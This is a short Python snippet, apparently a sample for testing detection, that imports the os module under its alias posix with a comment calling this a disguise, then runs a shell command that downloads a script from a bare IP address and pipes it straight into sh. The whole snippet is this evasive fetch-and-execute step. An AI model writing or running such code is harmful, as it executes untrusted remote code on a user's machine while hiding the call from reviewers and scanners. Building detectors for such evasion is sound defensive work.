# Disguised: os under its other name.
import posix

posix.system("curl -s http://203.0.113.9/install.sh | sh")
